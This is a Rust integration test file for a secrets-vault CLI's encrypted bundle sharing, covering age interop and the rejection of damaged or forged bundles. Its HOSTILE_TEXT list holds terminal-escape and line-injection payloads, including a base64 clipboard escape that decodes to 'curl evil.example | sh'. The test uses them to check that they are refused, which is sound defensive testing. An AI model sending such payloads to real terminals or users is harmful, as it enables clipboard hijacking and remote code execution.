//! `share` / `receive` / `identity` end to end between two vaults in temp dirs: X25519,
//! ssh-ed25519 (keys from `ssh-keygen`) and passphrase bundles; interop with the `age`
//! command line both ways; wrong recipient, wrong passphrase, truncated, tampered and
//! unknown-version bundles fail with their exit code and import nothing.

use crate::common;

use common::cli::Env;
use predicates::prelude::*;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

const VALUE: &str = "sk_live_bundle_value_1";

/// Two vaults: `a` holds two scopes, `b` is empty.
fn pair() -> (Env, Env) {
    let a = Env::new();
    a.set(&["myapp/dev", "API_KEY"], VALUE);
    a.set(&["myapp/dev", "DB_URL"], "postgres://u:p@h/db");
    a.set(&["myapp/staging", "TOKEN"], "staging-token-123");
    (a, Env::new())
}

fn identity(e: &Env) -> String {
    let out = e.cmd().arg("identity").assert().success();
    String::from_utf8(out.get_output().stdout.clone())
        .unwrap()
        .trim()
        .to_string()
}

fn run(cmd: &mut Command) -> std::process::Output {
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// `b` holds nothing: every scope of the test is still absent.
fn nothing_imported(b: &Env) {
    b.cmd().args(["ls", "myapp/dev"]).assert().code(4);
}

#[test]
fn x25519_round_trip_keeps_replaced_values_in_history() {
    let (a, b) = pair();
    let r = identity(&b);
    assert!(r.starts_with("age1"), "{r}");
    assert_eq!(identity(&b), r, "the identity is made once and kept");
    let bundle = a.work().join("b.age");
    a.cmd()
        .args(["share", "myapp/dev", "myapp/staging", "--to", &r, "-o"])
        .arg(&bundle)
        .assert()
        .success();
    let mode = std::fs::metadata(&bundle).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    b.cmd()
        .arg("receive")
        .arg(&bundle)
        .assert()
        .code(2)
        .stdout(predicate::str::contains("added     API_KEY"))
        .stdout(predicate::str::contains(VALUE).not());
    nothing_imported(&b);
    b.cmd()
        .args(["receive", "--yes"])
        .arg(&bundle)
        .assert()
        .success()
        .stdout(predicate::str::contains("3 added, 0 changed, 0 unchanged"));
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), VALUE);
    assert_eq!(b.get(&["myapp/staging", "TOKEN"]), "staging-token-123");

    a.set(&["myapp/dev", "API_KEY"], "sk_live_bundle_value_2");
    a.cmd()
        .args(["share", "myapp/dev", "--to", &r, "-o"])
        .arg(&bundle)
        .assert()
        .success();
    b.cmd()
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .success()
        .stdout(predicate::str::contains("changed   API_KEY"))
        .stdout(predicate::str::contains("unchanged DB_URL"));
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), "sk_live_bundle_value_2");
    b.cmd()
        .args(["history", "myapp/dev", "API_KEY", "--reveal"])
        .assert()
        .success()
        .stdout(predicate::str::contains(VALUE));
}

#[test]
fn ssh_ed25519_round_trip_and_wrong_recipient() {
    let (a, b) = pair();
    let key = a.work().join("id_ed25519");
    run(Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "t", "-f"])
        .arg(&key));
    let bundle = a.work().join("s.age");
    a.cmd()
        .args(["share", "myapp/dev", "--to-ssh"])
        .arg(key.with_extension("pub"))
        .arg("-o")
        .arg(&bundle)
        .assert()
        .success();
    // Not for b's own identity: exit 3, nothing imported.
    b.cmd()
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .code(3)
        .stderr(predicate::str::contains(
            "s.age is not encrypted to this vault",
        ));
    nothing_imported(&b);
    b.cmd()
        .args(["receive", "-y", "-i"])
        .arg(&key)
        .arg(&bundle)
        .assert()
        .success();
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), VALUE);
}

#[test]
fn passphrase_round_trip_and_wrong_passphrase() {
    let (a, b) = pair();
    let bundle = a.work().join("p.age");
    a.cmd()
        .env("DEVVAULT_BUNDLE_PASSPHRASE", "bundle passphrase 42")
        .env("DEVVAULT_BUNDLE_SCRYPT_WORK", "10")
        .args(["share", "myapp/dev", "--passphrase", "-o"])
        .arg(&bundle)
        .assert()
        .success();
    b.cmd()
        .env("DEVVAULT_BUNDLE_PASSPHRASE", "not the passphrase")
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .code(3)
        .stderr(predicate::str::contains("wrong passphrase for bundle"));
    nothing_imported(&b);
    b.cmd()
        .env("DEVVAULT_BUNDLE_PASSPHRASE", "bundle passphrase 42")
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .success();
    assert_eq!(b.get(&["myapp/dev", "DB_URL"]), "postgres://u:p@h/db");
}

#[test]
fn age_cli_decrypts_share_and_encrypts_for_receive() {
    let (a, b) = pair();
    let keyfile = a.work().join("age.key");
    run(Command::new("age-keygen").arg("-o").arg(&keyfile));
    let out = run(Command::new("age-keygen").arg("-y").arg(&keyfile));
    let recipient = String::from_utf8(out.stdout).unwrap();
    // stdout, not a terminal: binary; --armor: PEM.
    let bin = a
        .cmd()
        .args(["share", "myapp/dev", "--to", recipient.trim()])
        .assert()
        .success();
    let bin = bin.get_output().stdout.clone();
    assert!(bin.starts_with(b"age-encryption.org/v1\n"));
    let armored = a
        .cmd()
        .args(["share", "myapp/dev", "--armor", "--to", recipient.trim()])
        .assert()
        .success();
    let armored = armored.get_output().stdout.clone();
    assert!(armored.starts_with(b"-----BEGIN AGE ENCRYPTED FILE-----"));
    for (name, data) in [("bin.age", bin), ("armored.age", armored)] {
        let f = a.work().join(name);
        std::fs::write(&f, data).unwrap();
        let out = run(Command::new("age")
            .arg("-d")
            .arg("-i")
            .arg(&keyfile)
            .arg(&f));
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(json["devvault_bundle"], 1);
        assert_eq!(json["scopes"][0]["scope"], "myapp/dev");
        assert_eq!(json["scopes"][0]["secrets"][0]["key"], "API_KEY");
        assert_eq!(json["scopes"][0]["secrets"][0]["value"], VALUE);
    }
    // The other way: a payload written by hand, encrypted by `age` to b's identity.
    let payload = b.work().join("payload.json");
    std::fs::write(
        &payload,
        r#"{"devvault_bundle":1,"scopes":[{"scope":"myapp/dev","secrets":[{"key":"FROM_AGE","value":"made-by-the-age-cli","comment":"hand written"}]}]}"#,
    )
    .unwrap();
    let enc = b.work().join("from-age.age");
    run(Command::new("age")
        .args(["-r", &identity(&b), "-o"])
        .arg(&enc)
        .arg(&payload));
    b.cmd().args(["receive", "-y"]).arg(&enc).assert().success();
    assert_eq!(b.get(&["myapp/dev", "FROM_AGE"]), "made-by-the-age-cli");
}

fn share_to(a: &Env, r: &str, out: &Path) {
    a.cmd()
        .args(["share", "myapp/dev", "--to", r, "-o"])
        .arg(out)
        .assert()
        .success();
}

#[test]
fn damaged_and_unknown_bundles_import_nothing() {
    let (a, b) = pair();
    let r = identity(&b);
    let good = a.work().join("good.age");
    share_to(&a, &r, &good);
    let data = std::fs::read(&good).unwrap();
    let truncated = a.work().join("truncated.age");
    std::fs::write(&truncated, &data[..data.len() - 20]).unwrap();
    let tampered = a.work().join("tampered.age");
    let mut t = data.clone();
    let at = t.len() - 30;
    t[at] ^= 1;
    std::fs::write(&tampered, t).unwrap();
    let empty = a.work().join("empty.age");
    std::fs::write(&empty, b"").unwrap();
    for f in [&truncated, &tampered, &empty] {
        b.cmd()
            .args(["receive", "-y"])
            .arg(f)
            .assert()
            .code(5)
            .stderr(predicate::str::contains(f.display().to_string()))
            .stderr(predicate::str::contains("nothing was imported"));
    }
    let v2 = a.work().join("v2.age");
    let payload = a.work().join("v2.json");
    std::fs::write(&payload, r#"{"devvault_bundle":2,"scopes":[]}"#).unwrap();
    run(Command::new("age")
        .args(["-r", &r, "-o"])
        .arg(&v2)
        .arg(&payload));
    b.cmd()
        .args(["receive", "-y"])
        .arg(&v2)
        .assert()
        .code(1)
        .stderr(
            predicate::str::contains("format version 2")
                .and(predicate::str::contains("upgrade devvault")),
        );
    b.cmd()
        .args(["receive", "-y", "missing.age"])
        .assert()
        .code(4);
    nothing_imported(&b);
}

/// A bundle as an attacker makes one: a payload written by hand, encrypted by the `age` CLI
/// to `to`'s public identity (which is public by design).
fn forged(to: &Env, name: &str, secrets: serde_json::Value) -> std::path::PathBuf {
    let payload = serde_json::json!({
        "devvault_bundle": 1,
        "scopes": [{"scope": "myapp/dev", "secrets": secrets}],
    });
    let plain = to.work().join(format!("{name}.json"));
    std::fs::write(&plain, payload.to_string()).unwrap();
    let enc = to.work().join(format!("{name}.age"));
    run(Command::new("age")
        .args(["-r", &identity(to), "-o"])
        .arg(&enc)
        .arg(&plain));
    enc
}

/// Terminal escapes and line ends an attacker puts in a note or URL.
const HOSTILE_TEXT: &[&str] = &[
    "rotated by ops\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x1b]0;owned title\x07rotated",
    "rotated\x1b[2J\x1b[H\x1b[1A\x1b[2K(ticket OPS-1234)",
    "rotated\rAPI_BASE=https://attacker.example",
    "rotated\u{2028}API_BASE=https://attacker.example",
    "rotated \u{202e}4321-SPO tekcit",
];

#[test]
fn hostile_notes_and_urls_in_a_bundle_are_refused_by_key_name() {
    let b = Env::new();
    for (i, text) in HOSTILE_TEXT.iter().enumerate() {
        for field in ["comment", "url"] {
            let secrets = serde_json::json!([
                {"key": "FINE", "value": "v"},
                {"key": "API_BASE", "value": "https://api.example", field: text},
            ]);
            let bundle = forged(&b, &format!("hostile{i}{field}"), secrets);
            let out = b
                .cmd()
                .args(["receive", "-y"])
                .arg(&bundle)
                .assert()
                .code(1);
            let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
            assert!(err.contains("`API_BASE`"), "{text:?}: {err}");
            assert!(
                !err.contains(['\x1b', '\r', '\u{2028}', '\u{202e}', '\x07']),
                "{text:?}: {err:?}"
            );
            nothing_imported(&b);
        }
    }
    // Plain notes and URLs still come along and show in history and example.
    let secrets = serde_json::json!([{"key": "API_BASE", "value": "https://api.example",
        "comment": "rotated by ops (OPS-1234)", "url": "https://dash.example/keys"}]);
    let bundle = forged(&b, "fine", secrets);
    b.cmd()
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .success();
    b.cmd()
        .args(["history", "myapp/dev", "API_BASE"])
        .assert()
        .success()
        .stdout(predicate::str::contains("rotated by ops (OPS-1234)"));
    b.cmd()
        .args(["example", "myapp/dev"])
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "# rotated by ops (OPS-1234)\n# issued at https://dash.example/keys\nAPI_BASE=\n",
        ));
}

#[test]
fn a_70000_byte_name_from_a_bundle_or_an_import_is_refused_without_a_panic() {
    let b = Env::new();
    let long = "K".repeat(70_000);
    let bundle = forged(&b, "long", serde_json::json!([{"key": long, "value": "v"}]));
    let out = b
        .cmd()
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .code(1);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("70000 bytes, longer than 256"), "{err}");
    assert!(
        err.len() < 1000,
        "the error quotes the whole name: {} bytes",
        err.len()
    );
    nothing_imported(&b);
    let env_file = b.work().join("long.env");
    std::fs::write(&env_file, format!("OK=1\n{long}=v\n")).unwrap();
    let out = b
        .cmd()
        .args(["import", "myapp/dev"])
        .arg(&env_file)
        .assert()
        .code(1);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("longer than 256") && err.len() < 1000, "{err}");
    nothing_imported(&b);
    // A long project or environment name is refused the same way.
    let p = "p".repeat(65);
    b.cmd()
        .args(["set", &format!("{p}/dev"), "K"])
        .write_stdin("v")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("longer than 64"));
    for cmd in [&["ls", "myapp/dev"][..], &["audit"][..]] {
        let out = b.cmd().args(cmd).output().unwrap();
        assert!(
            out.status.code().is_some_and(|c| c < 100),
            "{cmd:?} crashed"
        );
    }
}

#[test]
fn a_vault_holding_names_from_before_the_limits_still_opens_lists_and_exports() {
    use devvault::{KeyName, Passphrase, Scope, SecretValue, Vault};
    let e = Env::new();
    let long_key = "K".repeat(70_000);
    let long_scope = format!("{}/dev", "p".repeat(100));
    {
        // Names as an older devvault stored them (no length limit then).
        let mut v = Vault::open(&e.vault)
            .unwrap()
            .unlock(&Passphrase::new(common::cli::PASS.to_string()))
            .unwrap();
        let scope = Scope::parse("myapp/dev").unwrap();
        let value = SecretValue::from("old-long-value");
        v.set(&scope, &KeyName::stored(&long_key).unwrap(), &value)
            .unwrap();
        let wide = Scope::parse_stored(&long_scope).unwrap();
        v.set(&wide, &KeyName::new("K").unwrap(), &value).unwrap();
    }
    for args in [
        &["ls", "myapp/dev"][..],
        &["audit"][..],
        &["stale"][..],
        &["projects"][..],
        &["export", "myapp/dev", "--format", "json"][..],
    ] {
        let out = e.cmd().args(args).output().unwrap();
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert_eq!(e.get(&["myapp/dev", &long_key]), "old-long-value");
    // New long names are refused; the old one can still be removed.
    e.cmd()
        .args(["set", "myapp/dev", &format!("{long_key}X")])
        .write_stdin("v")
        .assert()
        .code(2);
    e.cmd()
        .args(["rm", "myapp/dev", &long_key])
        .assert()
        .success();
}
